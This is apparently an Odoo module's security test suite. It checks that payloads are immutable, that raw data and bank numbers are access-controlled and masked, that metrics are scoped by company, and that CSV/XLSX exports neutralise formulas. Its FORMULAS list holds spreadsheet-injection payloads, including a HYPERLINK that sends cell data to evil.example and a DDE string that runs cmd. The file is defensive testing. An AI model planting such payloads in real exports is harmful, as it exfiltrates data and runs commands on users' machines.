"""Issue 14, items 5 to 8 and 10 (F6, F8, F10, F11, F15-F19), each tried as the role's own
user (created here with only that role's groups) over HTTP: Odoo's JSON-RPC
(``/web/dataset/call_kw``, what the web client calls), the export controllers, or the
module's API with the user's own key."""

import base64
import csv
import importlib.util
import io
import json
import os
import stat
import zipfile

from odoo import Command
from odoo import http
from odoo import tools
from odoo.tests import HttpCase
from odoo.tests import tagged

from .security_api_common import ApiClientMixin
from .security_common import MODULE
from .security_common import CallKwMixin
from .security_common import TwoCompanyCase

ACCOUNT = "4093257718"
HOLDER = "Mallory Smith"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@tagged("post_install", "-at_install")
class TestHardening(ApiClientMixin, CallKwMixin, TwoCompanyCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.ensure_encryption_key()
        billing = ("account.group_account_invoice",)
        cls.clerk = cls.rpc_user("h_clerk", "clerk", extra_groups=billing)
        cls.supply = cls.rpc_user("h_supply", "supply")
        cls.auditor = cls.rpc_user("h_auditor", "auditor")
        cls.int_admin = cls.rpc_user("h_intadm", "admin", extra_groups=billing)
        cls.victim = cls.rpc_user("h_victim", "manager", extra_groups=billing)
        cls.unmasked = cls.rpc_user(
            "h_unmasked", "manager", extra_groups=(f"{MODULE}.group_hc_bank_unmasked",)
        )
        cls.settings_admin = cls.rpc_user(
            "h_settings", "auditor", extra_groups=("base.group_system", "base.group_erp_manager")
        )

    @classmethod
    def rpc_user(cls, login, role, company=None, extra_groups=()):
        user = cls.make_user(login, role, company or cls.company_a, extra_groups)
        user.password = cls.password(login)
        return user

    @staticmethod
    def password(login):
        return f"{login}-Pass-2026!"

    # -- helpers -------------------------------------------------------------------------

    def rpc(self, user, model, method, *args, **kwargs):
        """``(result, error)`` of ``model.method(*args, **kwargs)`` called by ``user``
        through /web/dataset/call_kw, as the web client does."""
        if getattr(self, "_rpc_login", None) != user.login:
            self.authenticate(user.login, self.password(user.login))
            self._rpc_login = user.login
        return self.call_kw(model, method, args, kwargs)

    def assertRefused(self, outcome, name="odoo.exceptions.AccessError"):
        result, error = outcome
        self.assertTrue(error, f"not refused: {result!r}")
        self.assertEqual(error["data"]["name"], name, error["data"].get("message"))
        return error["data"]["message"]

    def assertAllowed(self, outcome):
        result, error = outcome
        self.assertFalse(error, error and error["data"].get("message"))
        return result

    def staff_key(self, user):
        return self.env["res.users.apikeys"].with_user(user).sudo()._generate("hc_p2p", "t", None)

    # -- item 5 (F10): what was received is what is replayed -------------------------------

    def test_received_message_cannot_be_edited_and_a_replay_processes_what_arrived(self):
        original = self.vendor_doc(gln="0614141000050", name="Original Vendor")
        message = self.run_for(original, "vendor", self.company_a)
        self.assertEqual(message.state, "done", message.error_message)
        stored = message.sudo().payload
        forged = base64.b64encode(
            self.raw(self.vendor_doc(gln="0614141000050", name="Forged Vendor"))
        ).decode()
        # the integration administrator, over RPC: every field of what was received
        for vals in (
            {"payload": forged},
            {"connector_id": self.connector_b.id},
            {"company_id": self.company_b.id},
            {"content_hash": "0" * 64},
            {"content_type": "application/xml"},
            {"doc_type_id": self.doc_types.filtered(lambda d: d.code == "invoice").id},
            {"doc_type": "invoice"},
        ):
            text = self.assertRefused(
                self.rpc(self.int_admin, "hc.inbox.message", "write", [message.id], vals)
            )
            self.assertIn("cannot be changed", text)
        # nor the superuser through the ORM, with any context
        with self.assertRaises(Exception):  # noqa: B017 (AccessError, asserted above)
            message.sudo().with_context(hc_allow_payload_write=True).write({"payload": forged})
        message.invalidate_recordset()
        self.assertEqual(message.sudo().payload, stored)
        self.assertEqual(
            (message.connector_id, message.company_id, message.doc_type),
            (self.connector, self.company_a, "vendor"),
        )

        # a replay through the wizard, over RPC, processes the bytes that arrived
        wizard, _err = self.rpc(
            self.int_admin,
            "hc.inbox.replay.wizard",
            "create",
            [{"message_ids": [Command.set(message.ids)], "mode": "replay", "reason": "check"}],
        )
        self.assertAllowed(
            self.rpc(self.int_admin, "hc.inbox.replay.wizard", "action_confirm", wizard)
        )
        self.env.invalidate_all()
        self.process()
        self.assertEqual(message.state, "done", message.error_message)
        self.assertEqual(message.replay_count, 1)
        Partner = self.env["res.partner"].with_context(active_test=False)
        self.assertFalse(Partner.search([("name", "=", "Forged Vendor")]))

        # bytes changed behind the ORM are not processed: their hash is not the received one
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE hc_inbox_message SET payload = %s WHERE id = %s", (forged.encode(), message.id)
        )
        self.env.invalidate_all()
        message._replay("after a database edit")
        self.process()
        self.assertEqual(message.state, "dead")
        self.assertEqual(message.error_code, "payload_altered")
        self.assertFalse(Partner.search([("name", "=", "Forged Vendor")]))

    # -- item 10 (F18): raw payloads, integration administrators only -------------------

    def test_raw_payload_readable_by_integration_admins_only(self):
        message = self.accept_for(self.vendor_doc(), "vendor", self.company_a)
        for user in (self.clerk, self.supply, self.auditor):
            self.assertRefused(self.rpc(user, "hc.inbox.message", "read", message.ids, ["payload"]))
            self.assertRefused(
                self.rpc(user, "hc.inbox.message", "search_read", [], fields=["payload"])
            )
            self.assertRefused(
                self.rpc(user, "hc.inbox.message", "search", [("payload", "!=", False)])
            )
            self.assertRefused(
                self.rpc(
                    user, "hc.inbox.message", "web_read", message.ids, specification={"payload": {}}
                )
            )
            # what they may read comes without it
            [row] = self.assertAllowed(self.rpc(user, "hc.inbox.message", "read", message.ids))
            self.assertNotIn("payload", row)
            self.assertEqual(row["doc_type"], "vendor")
            self.assertRefused(
                self.rpc(user, "hc.inbox.message", "_payload_text", message.ids),
                "odoo.exceptions.AccessError",
            )
        [row] = self.assertAllowed(
            self.rpc(self.int_admin, "hc.inbox.message", "read", message.ids, ["payload"])
        )
        self.assertEqual(base64.b64decode(row["payload"]), self.raw(self.vendor_doc()))

    # -- item 6 (F6): connectors cannot capture users -------------------------------------

    def test_connector_cannot_capture_a_user(self):
        victim_groups = self.victim.all_group_ids
        refused = self.rpc(
            self.int_admin,
            "hc.connector",
            "create",
            [{"name": "Hijack", "code": "hijack", "user_id": self.victim.id}],
        )
        self.assertIn("never be linked", self.assertRefused(refused))
        self.assertFalse(self.env["hc.connector"].search([("code", "=", "hijack")]))
        connector_id = self.assertAllowed(
            self.rpc(self.int_admin, "hc.connector", "create", [{"name": "New", "code": "newsys"}])
        )[0]
        self.assertRefused(
            self.rpc(
                self.int_admin, "hc.connector", "write", [connector_id], {"user_id": self.victim.id}
            )
        )
        # the first key makes the connector's own technical user
        wizard = self.assertAllowed(
            self.rpc(
                self.int_admin,
                "hc.connector.key.wizard",
                "create",
                [{"connector_id": connector_id, "expiration_days": 1, "overlap_hours": 0}],
            )
        )
        self.assertAllowed(
            self.rpc(self.int_admin, "hc.connector.key.wizard", "action_generate", wizard)
        )
        connector = self.env["hc.connector"].browse(connector_id)
        technical = connector.user_id
        self.assertEqual(technical.login, "hc_connector_newsys")
        self.assertNotEqual(technical, self.victim)
        self.assertEqual(technical.all_group_ids, self.env.ref(f"{MODULE}.group_hc_connector"))

        # a link made behind the ORM (old data): no key, the person is left as they are
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE hc_connector SET user_id = %s WHERE id = %s", (self.victim.id, connector_id)
        )
        self.env.invalidate_all()
        wizard = self.assertAllowed(
            self.rpc(
                self.int_admin,
                "hc.connector.key.wizard",
                "create",
                [{"connector_id": connector_id, "expiration_days": 1, "overlap_hours": 0}],
            )
        )
        text = self.assertRefused(
            self.rpc(self.int_admin, "hc.connector.key.wizard", "action_generate", wizard),
            "odoo.exceptions.UserError",
        )
        self.assertIn("not its technical user", text)
        self.env.invalidate_all()
        self.assertEqual(self.victim.all_group_ids, victim_groups)
        self.assertFalse(self.victim.share)
        self.assertFalse(
            self.env["res.users.apikeys"].sudo().search([("user_id", "=", self.victim.id)])
        )

        # nobody gives a technical user another group, login or password
        self.env.cr.execute(
            "UPDATE hc_connector SET user_id = %s WHERE id = %s", (technical.id, connector_id)
        )
        self.env.invalidate_all()
        manager = self.env.ref(f"{MODULE}.group_hc_ap_manager")
        for vals in (
            {"group_ids": [Command.link(manager.id)]},
            {"login": "someone.else"},
            {"password": "a-password-2026"},
        ):
            self.assertRefused(
                self.rpc(self.settings_admin, "res.users", "write", [technical.id], vals)
            )
        self.assertRefused(
            self.rpc(
                self.settings_admin,
                "res.groups",
                "write",
                [manager.id],
                {"user_ids": [Command.link(technical.id)]},
            )
        )
        self.env.invalidate_all()
        self.assertEqual(technical.all_group_ids, self.env.ref(f"{MODULE}.group_hc_connector"))
        self.assertEqual(technical.login, "hc_connector_newsys")
        # the same administrator still manages people
        self.assertAllowed(
            self.rpc(
                self.settings_admin,
                "res.users",
                "write",
                [self.supply.id],
                {"group_ids": [Command.link(manager.id)]},
            )
        )

    # -- item 7 (F8): no search oracle on bank numbers, holder masked ----------------------

    def test_no_search_oracle_on_bank_numbers_and_holder_masked(self):
        Bank = self.env["res.partner.bank"].sudo()
        account = Bank.create(
            dict(
                Bank._hc_vals_from_details({"acc_number": ACCOUNT, "holder_name": HOLDER}),
                partner_id=self.vendor.id,
            )
        )
        self.assertEqual(account.acc_holder_name, "M••• S•••")
        self.assertEqual(account._hc_decrypt()["holder_name"], HOLDER)
        guesses = [f"40932577{n:02d}" for n in range(100)]
        searches = [
            ("res.partner.bank", [("acc_number", "=", ACCOUNT)]),
            ("res.partner.bank", [("acc_number", "in", guesses)]),
            ("res.partner.bank", [("acc_number", "=", "4093 2577 18")]),
            ("res.partner", [("bank_ids.acc_number", "=", ACCOUNT)]),
            ("res.partner", [("bank_ids.acc_number", "in", guesses)]),
            ("res.partner.bank", [("acc_holder_name", "ilike", "Mallory")]),
            ("res.partner.bank", [("acc_holder_name", "=", HOLDER)]),
        ]
        for user in (self.clerk, self.supply, self.int_admin, self.victim):
            for model, domain in searches:
                count = self.assertAllowed(self.rpc(user, model, "search_count", domain))
                self.assertEqual(count, 0, f"{user.login}: {model} {domain}")
            self.assertRefused(
                self.rpc(user, "res.partner.bank", "search", [("hc_secret", "ilike", "gAAAA")])
            )
            [row] = self.assertAllowed(
                self.rpc(
                    user, "res.partner.bank", "read", account.ids, ["acc_number", "acc_holder_name"]
                )
            )
            self.assertEqual(row["acc_number"], "••••7718")
            self.assertEqual(row["acc_holder_name"], "M••• S•••")
        # Bank details (unmasked) may look an account up by its number (the control
        # is the group, not a broken search)
        for model, domain in searches[:5]:
            count = self.assertAllowed(self.rpc(self.unmasked, model, "search_count", domain))
            self.assertEqual(count, 1, f"{model} {domain}")
        # the system (statement matching, de-duplication) too
        self.assertEqual(Bank.search([("acc_number", "=", ACCOUNT)]), account)

    def test_holder_names_stored_in_clear_are_masked_by_the_upgrade(self):
        """Accounts stored before holder names were masked: the upgrade to 19.0.1.0.1 puts
        the name into the encrypted details and masks the column (as a key rotation does)."""
        Bank = self.env["res.partner.bank"].sudo()
        legacy = Bank.create(
            dict(Bank._hc_vals_from_details({"acc_number": ACCOUNT}), partner_id=self.vendor.id)
        )
        self.env.flush_all()
        self.env.cr.execute(  # as an earlier version stored it
            "UPDATE res_partner_bank SET acc_holder_name = %s WHERE id = %s", [HOLDER, legacy.id]
        )
        legacy.invalidate_recordset()
        self.assertFalse(legacy._hc_decrypt().get("holder_name"), "the token lacks it")
        path = os.path.join(
            os.path.dirname(__file__), "..", "migrations", "19.0.1.0.1", "post-migration.py"
        )
        spec = importlib.util.spec_from_file_location("hc_migration_19_0_1_0_1", path)
        migration = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(migration)
        migration.migrate(self.env.cr, "19.0.1.0.0")
        legacy.invalidate_recordset()
        self.assertEqual(legacy.acc_holder_name, "M••• S•••")
        self.assertEqual(legacy._hc_decrypt()["holder_name"], HOLDER)
        self.assertEqual(legacy._hc_decrypt()["acc_number"], ACCOUNT, "the number kept")
        [row] = self.assertAllowed(
            self.rpc(self.clerk, "res.partner.bank", "read", legacy.ids, ["acc_holder_name"])
        )
        self.assertEqual(row["acc_holder_name"], "M••• S•••")
        self.assertEqual(Bank._hc_mask_clear_holders(), 0, "nothing left in clear")

    # -- item 8 (F11): metrics and dashboard by the reader's companies --------------------

    def test_metrics_health_and_dashboard_show_only_the_readers_companies(self):
        self.accept_for(self.vendor_doc(), "vendor", self.company_a)
        for gln in ("0614141000036", "0614141000043"):
            self.accept_for(
                self.vendor_doc(gln=gln), "vendor", self.company_b, connector=self.connector_b
            )
        self.make_bill(self.company_b, "INV-B-9", amount=50.0)
        key = self.staff_key(self.auditor)
        text = self.get("metrics", key=key).text
        self.assertIn('connector="srcplat"', text)
        self.assertIn(f'company="{self.company_a.name}"', text)
        self.assertNotIn('connector="facb"', text)
        self.assertNotIn("Facility B", text)
        self.assertIn('hc_inbox_queue_depth{lane="bulk"} 1.0', text)
        # an auditor of both facilities sees both
        both = self.rpc_user("h_auditor_ab", "auditor")
        both.company_ids = self.company_a | self.company_b
        text = self.get("metrics", key=self.staff_key(both)).text
        self.assertIn('connector="facb"', text)
        self.assertIn('hc_inbox_queue_depth{lane="bulk"} 3.0', text)
        # health details: the reader's companies; without a key: ok or unavailable only
        detail = self.get("health", key=key).json()
        self.assertEqual(detail["lanes"]["bulk"]["queue_depth"], 1)
        bare = self.url_open("/api/hc/v1/health")
        self.assertEqual(set(bare.json()), {"status"})
        self.assertIn(bare.json()["status"], ("ok", "unavailable"))
        # the dashboard over RPC: another company asked for is dropped
        board = self.assertAllowed(
            self.rpc(
                self.auditor,
                "hc.metrics",
                "get_dashboard",
                company_ids=[self.company_b.id, self.company_a.id],
            )
        )
        self.assertEqual(board["company_ids"], [self.company_a.id])
        self.assertEqual([c["id"] for c in board["companies"]], [self.company_a.id])
        self.assertEqual({r["connector"] for r in board["rows"]}, {"srcplat"})
        queue = next(c for c in board["cards"] if c["code"] == "queue_depth")
        self.assertEqual(queue["value"], 1)

    # -- item 8 (F16): another company's PO, as the connector sees it ---------------------

    def test_connector_sees_another_companys_po_as_an_unknown_one(self):
        self.make_po(self.company_b, "PO-B-77")

        def invoice(number, po):
            return {
                "number": number,
                "issue_date": "2026-11-20",
                "currency": self.company_a.currency_id.name,
                "vendor": {"identifiers": [{"scheme": "GLN", "value": "0614141000012"}]},
                "po_numbers": [po],
                "lines": [
                    {
                        "line_number": "1",
                        "po_line_ref": "1",
                        "item": {"gtin": "00614141000029"},
                        "quantity": "10",
                        "uom": "EA",
                        "unit_price": "2.00",
                    }
                ],
                "tax_total": "0",
                "gross_total": "20.00",
            }

        foreign = self.post("invoices", invoice("INV-X-1", "PO-B-77"))
        unknown = self.post("invoices", invoice("INV-X-2", "PO-NOPE-77"))
        self.assertEqual((foreign.status_code, unknown.status_code), (202, 202))
        self.process()
        answers = []
        for response in (foreign, unknown):
            status = self.get(f"messages/{response.json()['id']}").json()
            answers.append(
                (status["state"], (status.get("error") or {}).get("code"), sorted(status))
            )
        self.assertEqual(answers[0], answers[1])
        self.assertEqual(answers[0][0], "waiting")

    # -- item 10 (F17): a bad X-Company-Id is a JSON 400 ----------------------------------

    def test_non_ascii_company_header_is_a_json_400(self):
        for value in ("²", "¹²", "1²"):
            response = self.post(
                "vendors", self.vendor_doc(), headers={"X-Company-Id": value.encode("latin-1")}
            )
            self.assertError(response, 400, "invalid_header")
            self.assertTrue(response.headers["Content-Type"].startswith("application/json"))
        ok = self.post("vendors", self.vendor_doc(), headers={"X-Company-Id": str(self.company.id)})
        self.assertEqual(ok.status_code, 202, ok.text)

    # -- item 10 (F15): exports keep text as text ----------------------------------------

    def export(self, user, fmt, ids):
        self.authenticate(user.login, self.password(user.login))
        self._rpc_login = user.login
        params = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
            "context": {},
        }
        response = self.url_open(
            f"/web/export/{fmt}",
            data={"data": json.dumps(params), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200, response.text[:500])
        return response.content

    def test_csv_and_xlsx_exports_neutralise_formulas(self):
        partners = self.env["res.partner"].create(
            [{"name": name} for name in [*FORMULAS, "{=1+1}", "http://evil.example/x"]]
        )
        exporter = self.rpc_user("h_exporter", "clerk", extra_groups=("base.group_allow_export",))
        rows = list(
            csv.reader(io.StringIO(self.export(exporter, "csv", partners.ids).decode("utf-8")))
        )
        cells = [row[0] for row in rows[1:]]
        for name in FORMULAS:
            self.assertIn("'" + name, cells, f"{name!r} not neutralised")
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell))

        with zipfile.ZipFile(io.BytesIO(self.export(exporter, "xlsx", partners.ids))) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            strings = book.read("xl/sharedStrings.xml").decode()
            names = book.namelist()
        self.assertNotIn("<f>", sheet, "a live formula")
        self.assertNotIn("<f ", sheet, "a live (array) formula")
        self.assertNotIn("hyperlink", sheet.lower())
        self.assertFalse([n for n in names if "rels" in n and "sheet1" in n])
        self.assertIn("HYPERLINK(", strings)
        self.assertIn("@SUM(1+1)", strings)
        self.assertIn("{=1+1}", strings)

    # -- item 10 (F19): owner-only configuration, no database manager -------------------

    def test_configuration_owner_only_and_database_manager_off(self):
        rcfile = tools.config.rcfile
        build = os.environ.get("HC_BUILD_ADDONS")
        if not (build and rcfile and os.path.dirname(rcfile) == os.path.dirname(build)):
            self.skipTest("not run with the configuration made by scripts/setup.sh")
        self.assertEqual(stat.S_IMODE(os.stat(rcfile).st_mode), 0o600)
        self.assertFalse(tools.config["list_db"])
        response = self.url_open(
            "/web/database/list",
            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": {}}),
            headers={"Content-Type": "application/json"},
        )
        body = response.json()
        self.assertNotIn("result", body, "the database list is not given")
        self.assertIn("AccessDenied", body["error"]["data"]["name"])
